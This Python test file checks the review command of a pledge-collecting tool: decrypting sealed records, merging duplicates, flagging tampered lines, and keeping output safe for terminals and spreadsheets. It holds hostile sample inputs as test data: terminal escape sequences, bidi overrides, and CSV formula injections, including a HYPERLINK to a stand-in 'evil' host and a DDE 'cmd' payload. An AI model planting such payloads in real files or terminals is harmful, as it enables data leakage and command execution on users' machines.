"""`review`: open collected files, merge duplicates, terminal- and spreadsheet-safe output, payment matching."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import tempfile
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpers import CAMPAIGN, FAST_SCRYPT, PASSPHRASE, entry, plaintext, ref, rows, sealed, write_records
from pledgebox import cli, keys, report, review, safetext, sealing

# -- opening and merging ---------------------------------------------------------------------------


def test_the_table_shows_every_pledge_and_totals(tmp_path, identity, run):
    write_records(
        tmp_path / "a.sealed",
        [
            (
                "r1",
                sealed(
                    [identity],
                    1,
                    amount="25.00",
                    designation="solidarity-zone",
                    method="sepa",
                    pseudonym="Аня",
                    message="Держитесь! Солидарность",
                ),
            ),
            (
                "r2",
                sealed(
                    [identity],
                    2,
                    amount="1000.50",
                    designation="abc-irkutsk",
                    method="cash",
                    contact="anna@example.org",
                    day="2026-11-24",
                ),
            ),
            ("r3", sealed([identity], 3, amount="10.00", designation="split", method="sepa", pseudonym="Jörg")),
        ],
    )
    code, out, err = run(tmp_path / "a.sealed")
    assert code == 0, err
    assert err == ""
    lines = rows(out)
    assert len(lines) == 3
    assert lines[0].startswith(ref(2))  # sorted by day
    assert "Аня" in out and "Держитесь! Солидарность" in out and "Jörg" in out and "anna@example.org" in out
    header = out.splitlines()[0].split()
    assert header == ["REFERENCE", "DAY", "AMOUNT", "DESIGNATION", "METHOD", "PSEUDONYM", "CONTACT", "MESSAGE"]
    assert "1,000.50" in out
    assert re.search(r"^  abc-irkutsk\s+1\s+1,000.50$", out, re.M)
    assert re.search(r"^  sepa\s+2\s+35.00$", out, re.M)
    assert re.search(r"^  cash\s+1\s+1,000.50$", out, re.M)
    assert re.search(r"^All\s+3\s+1,035.50$", out, re.M)
    assert "1 file, 3 records: 3 pledges." in out


def test_duplicates_from_several_files_are_merged(tmp_path, identities, run):
    identity = identities[0]
    one, two = sealed([identity], 1), sealed([identity], 2)
    again = sealed([identity], 2)  # the same pledge, sealed again by another instance: new ciphertext, new id
    write_records(tmp_path / "server.sealed", [("r1", one), ("r2", two)])
    write_records(tmp_path / "mirror.sealed", [("r1", one), ("other-id", again), ("r3", sealed([identity], 3))])
    code, out, err = run(tmp_path / "server.sealed", tmp_path / "mirror.sealed", tmp_path / "server.sealed")
    assert code == 0, err
    assert sorted(line[:11] for line in rows(out)) == sorted([ref(1), ref(2), ref(3)])
    assert "3 files, 7 records: 3 pledges, 4 duplicates merged." in out


def test_same_reference_with_different_contents_is_shown_and_warned(tmp_path, identity, run):
    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, amount="25.00"))])
    write_records(tmp_path / "b.sealed", [("x1", sealed([identity], 1, amount="2500.00"))])
    code, out, err = run(tmp_path / "a.sealed", tmp_path / "b.sealed")
    assert code == 0
    assert len(rows(out)) == 2
    assert f"reference {ref(1)} appears with different contents at" in err
    assert "a.sealed:1" in err and "b.sealed:1" in err


def test_records_sealed_to_other_keys_are_counted_not_an_error(tmp_path, identities, run):
    mine, theirs = identities[0], identities[1]
    write_records(
        tmp_path / "a.sealed", [("r1", sealed([mine], 1)), ("r2", sealed([theirs], 2)), ("r3", sealed([theirs], 3))]
    )
    code, out, err = run(tmp_path / "a.sealed")
    assert code == 0
    assert [line[:11] for line in rows(out)] == [ref(1)]
    assert "2 sealed to other keys" in out
    assert f"2 records sealed only to other keys ({theirs.recipient.fingerprint})" in err


def test_a_wrong_key_opens_nothing_and_says_so(tmp_path, identities, keyfile, run):
    write_records(tmp_path / "a.sealed", [("r1", sealed([identities[1]], 1))])
    code, out, err = run(tmp_path / "a.sealed")
    assert code == 0
    assert rows(out) == []
    assert "1 sealed to other keys" in out
    assert "is it the right one?" in err


def test_a_wrong_passphrase_is_an_error_and_writes_nothing(tmp_path, identity, keyfile, capsys):
    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1))])
    wrong = tmp_path / "wrong"
    wrong.write_text("not the passphrase\n")
    code = cli.main(
        [
            "review",
            str(tmp_path / "a.sealed"),
            "--identity",
            str(keyfile),
            "--passphrase-file",
            str(wrong),
            "--csv",
            str(tmp_path / "out.csv"),
        ]
    )
    out, err = capsys.readouterr()
    assert code == 1
    assert err.startswith("pledgebox: error: Wrong passphrase")
    assert "pledgebox: hint:" in err
    assert out == "" and not (tmp_path / "out.csv").exists()


def test_a_truncated_file_reports_the_cut_record_and_keeps_the_rest(tmp_path, identity, run):
    path = tmp_path / "a.sealed"
    write_records(path, [(f"r{i}", sealed([identity], i)) for i in range(3)])
    data = path.read_bytes()
    path.write_bytes(data[: len(data) - 700])  # cut inside the last record
    code, out, err = run(path)
    assert code == 0
    assert sorted(line[:11] for line in rows(out)) == sorted([ref(0), ref(1)])
    assert f"{path}:3: damaged (incomplete last line" in err
    assert "1 damaged and skipped" in out


def _flip(text: bytes, at: int) -> bytes:
    """Change one base64url character of a record."""
    old = text[at : at + 1]
    return text[:at] + (b"A" if old != b"A" else b"B") + text[at + 1 :]


def test_tampered_records_are_reported_by_file_and_line_and_skipped(tmp_path, identities, run):
    identity = identities[0]
    good = sealed([identity], 1)
    tampered = _flip(sealed([identity], 2), 600)
    forged_kinds = [
        sealing.seal(b"[]", [identity.recipient], CAMPAIGN),
        sealing.seal(plaintext(4, amount="NaN"), [identity.recipient], CAMPAIGN),
        sealing.seal(plaintext(5, reference="AAAAA-AAAAA"), [identity.recipient], CAMPAIGN),
        sealing.seal(plaintext(6, message=["not", "text"]), [identity.recipient], CAMPAIGN),
        sealing.seal(b'{"reference":"\\ud800"}', [identity.recipient], CAMPAIGN),
        sealing.seal(b"\xff\xfe not utf-8", [identity.recipient], CAMPAIGN),
    ]
    path = tmp_path / "a.sealed"
    write_records(
        path,
        [
            ("r1", good),
            ("r2", tampered),
            ("r3", b'{"v":1,"c":"x","k":"nope"}'),
            ("r4", b"not json at all"),
            ("r5", b'{"v":99,"c":"x","k":[]}'),
        ]
        + [(f"f{i}", record) for i, record in enumerate(forged_kinds)],
    )
    with open(path, "ab") as file:
        file.write(b"garbage-without-a-space\n\xff\xfe\x1b[2J\n")
    code, out, err = run(path)
    assert code == 0
    assert [line[:11] for line in rows(out)] == [ref(1)]
    assert f"{path}:2: damaged (it failed authentication: it was altered or cut), skipped" in err
    for line in range(3, 14):
        assert f"{path}:{line}: damaged (" in err
    assert "\x1b" not in out + err
    assert "12 damaged and skipped" in out


def test_the_identity_file_given_as_input_is_refused(tmp_path, keyfile, run):
    code, _, err = run(keyfile)
    assert code == 2
    assert "identity file, not a file of collected pledges" in err


def test_a_missing_input_file_is_an_error(tmp_path, run):
    code, _, err = run(tmp_path / "nope.sealed")
    assert code == 1
    assert err.startswith("pledgebox: error: The file of sealed records could not be read")


def test_several_identities_open_old_and_new_records(tmp_path, identities, keyfile, passfile, capsys):
    old, new = identities[0], identities[1]
    newfile = tmp_path / "new.identity"
    new.save(newfile, PASSPHRASE, scrypt_n=FAST_SCRYPT)
    write_records(tmp_path / "a.sealed", [("r1", sealed([old], 1)), ("r2", sealed([new], 2))])
    code = cli.main(
        [
            "review",
            str(tmp_path / "a.sealed"),
            "--identity",
            str(newfile),
            "--identity",
            str(keyfile),
            "--passphrase-file",
            str(passfile),
        ]
    )
    out, err = capsys.readouterr()
    assert code == 0, err
    assert sorted(line[:11] for line in rows(out)) == sorted([ref(1), ref(2)])


def test_one_passphrase_file_per_identity_or_one_for_all(tmp_path, keyfile, passfile, capsys):
    (tmp_path / "a.sealed").write_bytes(b"")
    code = cli.main(
        [
            "review",
            str(tmp_path / "a.sealed"),
            "--identity",
            str(keyfile),
            "--passphrase-file",
            str(passfile),
            "--passphrase-file",
            str(passfile),
            "--passphrase-file",
            str(passfile),
        ]
    )
    assert code == 2
    assert "one per --identity" in capsys.readouterr().err


def test_the_worker_pool_gives_the_same_result_as_one_process(tmp_path, identities):
    identity = identities[0]
    path = tmp_path / "a.sealed"
    items = [(f"r{i}", sealed([identity], i, amount=f"{i + 1}.00")) for i in range(30)]
    items += [("other", sealed([identities[1]], 99)), ("r3", items[3][1]), ("bad", b"not json")]
    write_records(path, items)
    one = review.open_files([path], [identity], processes=1)
    pool = review.open_files([path], [identity], processes=2)
    assert [e.document(False) for e in pool.entries] == [e.document(False) for e in one.entries]
    assert len(one.entries) == 30
    assert (pool.duplicates, pool.other_keys, pool.damaged) == (one.duplicates, one.other_keys, one.damaged)


def test_large_inputs_use_every_core_and_small_ones_one_process():
    assert review.default_processes(10) == 1
    assert review.default_processes(review.POOL_MIN_RECORDS) == len(os.sched_getaffinity(0))


# -- progress --------------------------------------------------------------------------------------


class Terminal(io.StringIO):
    """A stand-in for stderr on a terminal."""

    def isatty(self) -> bool:
        return True


def test_a_progress_bar_is_drawn_on_a_terminal_and_erased(tmp_path, identity):
    path = tmp_path / "a.sealed"
    write_records(path, [(f"r{i}", sealed([identity], i)) for i in range(5)])
    stream = Terminal()
    progress = review.Progress(stream, 5, minimum=1)
    progress.advance(5)
    progress.close()
    text = stream.getvalue()
    assert "100%" in text and "5/5 records" in text
    assert text.endswith("\r")
    assert review.PROGRESS_MIN_RECORDS > 5
    # A small job, or stderr that is not a terminal: no bar at all.
    quiet = Terminal()
    review.open_files([path], [identity], progress_stream=quiet)
    assert quiet.getvalue() == ""
    piped = io.StringIO()
    progress = review.Progress(piped, 10**6, minimum=1)
    progress.advance(10**6)
    progress.close()
    assert piped.getvalue() == ""


def test_review_of_many_records_shows_progress_on_a_terminal(tmp_path, identity, monkeypatch):
    monkeypatch.setattr(review, "PROGRESS_MIN_RECORDS", 3)
    monkeypatch.setattr(review, "BATCH", 2)
    path = tmp_path / "a.sealed"
    write_records(path, [(f"r{i}", sealed([identity], i)) for i in range(5)])
    stream = Terminal()
    result = review.open_files([path], [identity], progress_stream=stream)
    assert len(result.entries) == 5
    assert "5/5 records" in stream.getvalue()


# -- terminal and spreadsheet safety ---------------------------------------------------------------

# What the form lets a donor type at its most hostile: bidi, zero-width, format and separator characters.
PAYLOADS = {
    "pseudonym": "\u202eevil\u202c \u2066isolate\u2069",
    "contact": "\u200f\u061c\u200b\u2060 zero width",
    "message": "line one\nline two\r\t\u202eevil\u202c \u2028sep \ufeffbom",
}
# What no form accepts: a record that carries it is reported by file and line, and nothing of it is shown.
CONTROLS = {
    "pseudonym": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "contact": "\x9b31m C1 CSI \x7f DEL \x00 NUL",
    "message": "back\x08\x08space",
    "designation": "\x1bP+q\x1b\\",
    "method": "\u200f\u061c",
}
RAW_DANGER = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]")


def test_control_characters_and_bidi_overrides_never_reach_the_terminal(tmp_path, identity, run):
    write_records(
        tmp_path / "a.sealed",
        [("r1", sealed([identity], 1, **PAYLOADS))]
        + [
            (f"r{n}", sealed([identity], n, **{name: payload})) for n, (name, payload) in enumerate(CONTROLS.items(), 2)
        ],
    )
    code, out, err = run(tmp_path / "a.sealed", "--wide")
    assert code == 0
    assert not RAW_DANGER.search(out + err)
    assert out.count("\n") == len(out.splitlines())  # no raw CR in a line
    assert "[U+202E]evil[U+202C] [U+2066]isolate[U+2069]" in out
    assert "line one\\nline two\\r\\t[U+202E]evil[U+202C] [U+2028]sep [U+FEFF]bom" in out
    assert len(rows(out)) == 1
    for n in range(2, 2 + len(CONTROLS)):
        assert f"a.sealed:{n}: " in err
    assert "owned" not in out + err and "CSI" not in out + err and "space" not in out + err


@given(st.text())
def test_terminal_text_is_always_safe(text):
    safe = safetext.terminal(text)
    assert not RAW_DANGER.search(safe)
    assert not any(unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") for ch in safe)


@given(
    st.text(
        alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Co", "Cs", "Zl", "Zp")).filter(
            lambda ch: not safetext.hidden(ch)
        ),
        max_size=40,
    )
)
def test_terminal_text_leaves_ordinary_text_alone(text):
    assert safetext.terminal(text) == text.replace("\\", "\\\\")


def test_a_planted_currency_cannot_drive_the_terminal(tmp_path, identity, run):
    # The currency is printed on the "Pledged:" line, outside the table: it once went out raw.
    currency = "\x1b]0;PWNED\x07\x1b[2J"
    write_records(
        tmp_path / "a.sealed", [("r1", sealed([identity], 1, currency=currency)), ("r2", sealed([identity], 2))]
    )
    code, out, err = run(tmp_path / "a.sealed")
    assert code == 0
    assert "\x1b" not in out + err and "\x07" not in out + err and "PWNED" not in out + err
    assert "a.sealed:1: damaged (its currency is not a currency code), skipped" in err
    assert "Pledged: 25.00 EUR." in out


FORMULAS = [
    '=HYPERLINK("http://evil/"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_cells_are_neutralised_against_formulas(payload):
    assert safetext.csv_cell(payload) == "'" + payload


@given(st.text())
def test_no_csv_cell_starts_like_a_formula(text):
    cell = safetext.csv_cell(text)
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cell)


def test_the_csv_export_is_private_exact_and_safe(tmp_path, identity, run):
    write_records(
        tmp_path / "a.sealed",
        [
            (
                "r1",
                sealed(
                    [identity],
                    1,
                    pseudonym=FORMULAS[0],
                    contact="+49 30 1234",
                    message="-5 € please",
                    designation="solidarity-zone",
                ),
            ),
            ("r2", sealed([identity], 2, pseudonym="Аня", message='Zeile 1\nZeile 2, mit "Anführung"')),
        ],
    )
    out_csv = tmp_path / "pledges.csv"
    code, out, err = run(tmp_path / "a.sealed", "--csv", out_csv)
    assert code == 0, err
    assert stat.S_IMODE(out_csv.stat().st_mode) == 0o600
    assert f"Wrote {out_csv} (mode 0600)" in out
    raw = out_csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark, for spreadsheet programs
    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    by_ref = {row["reference"]: row for row in table}
    first, second = by_ref[ref(1)], by_ref[ref(2)]
    assert first["pseudonym"] == "'" + FORMULAS[0]
    assert first["contact"] == "'+49 30 1234"
    assert first["message"] == "'-5 € please"
    assert first["designation"] == "solidarity-zone"
    assert first["amount"] == "25.00" and first["currency"] == "EUR"
    assert second["pseudonym"] == "Аня"
    assert second["message"] == 'Zeile 1\nZeile 2, mit "Anführung"'
    for row in table:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_json_export_is_private_exact_and_terminal_safe(tmp_path, identity, run):
    write_records(
        tmp_path / "a.sealed",
        [("r1", sealed([identity], 1, **PAYLOADS)), ("r2", sealed([identity], 2, pseudonym="Пётр"))],
    )
    with open(tmp_path / "a.sealed", "ab") as file:
        file.write(b"broken line\n")
    out_json = tmp_path / "pledges.json"
    code, _, err = run(tmp_path / "a.sealed", "--json", out_json)
    assert code == 0, err
    assert stat.S_IMODE(out_json.stat().st_mode) == 0o600
    text = out_json.read_text(encoding="utf-8")
    assert not RAW_DANGER.search(text)
    assert "Пётр" in text  # readable, not \u escaped
    doc = json.loads(text)
    pledge = next(p for p in doc["pledges"] if p["reference"] == ref(1))
    for name, payload in PAYLOADS.items():
        assert pledge[name] == payload  # exact, once decoded
    assert pledge["sources"] == [{"file": str(tmp_path / "a.sealed"), "line": 1}]
    assert doc["damaged"][0]["line"] == 3
    assert doc["totals"]["all"]["all"] == {"pledges": 2, "amount": "50.00", "received": "0.00"}


@pytest.mark.parametrize("option", ["--csv", "--json"])
def test_outputs_are_never_overwritten_and_refused_before_any_work(tmp_path, identity, run, monkeypatch, option):
    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1))])
    existing = tmp_path / "existing"
    existing.write_text("keep\n")
    monkeypatch.setattr(keys, "load", lambda *a: pytest.fail("the identity was opened"))
    code, out, err = run(tmp_path / "a.sealed", option, existing)
    assert code == 1
    assert err.startswith("pledgebox: error: The output file already exists")
    assert "pledgebox: hint:" in err
    assert existing.read_text() == "keep\n"


def test_a_long_message_is_cut_to_the_terminal_unless_wide(tmp_path, identity, run, monkeypatch):
    monkeypatch.setenv("COLUMNS", "100")
    message = "Солидарность " * 40
    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, message=message))])
    code, out, _ = run(tmp_path / "a.sealed")
    assert code == 0
    line = rows(out)[0]
    assert safetext.width(line) <= 100 and line.endswith("…")
    code, out, _ = run(tmp_path / "a.sealed", "--wide")
    assert message.strip() in out


def test_wide_characters_count_double():
    assert safetext.width("漢字") == 4
    assert safetext.width("é") == 1 and safetext.width("e\u0301") == 1
    assert safetext.fit("漢字漢字", 5) == "漢字…"


@settings(max_examples=60, deadline=None)
@given(
    lines=st.lists(
        st.one_of(
            st.binary(max_size=300),
            st.builds(
                lambda key, body: b'r {"v":1,"c":"test-campaign","k":[["%s","%s"]]}' % (key, body),
                st.sampled_from([b"0011223344556677", b"zz"]),
                st.text("AZaz09-_", max_size=80).map(str.encode),
            ),
        ),
        max_size=12,
    )
)
def test_no_file_content_crashes_review(identities, lines):
    identity = identities[0]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.sealed"
        path.write_bytes(b"\n".join(lines))
        result = review.open_files([path], [identity])
        assert result.entries == []
        assert len(result.damaged) + sum(result.other_keys.values()) + result.duplicates == result.records
        out, err = io.StringIO(), io.StringIO()
        report.report(result, None, out, err)
        assert not RAW_DANGER.search(out.getvalue() + err.getvalue())


@settings(max_examples=40, deadline=None)
@given(ciphertext=st.binary(min_size=0, max_size=1300))
def test_random_ciphertext_addressed_to_the_identity_is_damaged_not_a_crash(identities, ciphertext):
    identity = identities[0]
    import base64

    body = base64.urlsafe_b64encode(ciphertext).rstrip(b"=")
    record = b'{"v":1,"c":"test-campaign","k":[["%s","%s"]]}' % (identity.recipient.key_id.encode(), body)
    kind, why = review.open_record(record, [identity])
    assert kind == "damaged" and why


def test_a_record_with_two_campaign_ids_is_damaged_not_shown_under_either(tmp_path, identity, run):
    # Review once showed the first "c" while the ciphertext was opened under the last one.
    record = sealed([identity], 1)
    forged = record.replace(b'"c":"test-campaign"', b'"c":"other-campaign"', 1)[:-1] + b',"c":"test-campaign"}'
    write_records(tmp_path / "a.sealed", [("r1", forged), ("r2", sealed([identity], 2))])
    code, out, err = run(tmp_path / "a.sealed")
    assert code == 0
    assert [line[:11] for line in rows(out)] == [ref(2)]
    assert "a.sealed:1: damaged (it has a key twice), skipped" in err
    assert "other-campaign" not in out + err


def test_huge_planted_totals_stay_in_their_columns():
    # Two planted records of 999,999,999.99: the count and the amount must not run together ("21,999…").
    from pledgebox.report import totals_lines

    huge = "999999999.99"
    lines = totals_lines([entry(1, huge, received=huge), entry(2, huge, received=huge)], payments=True)
    assert lines[-1].split() == ["All", "2", "1,999,999,999.98", "1,999,999,999.98"]
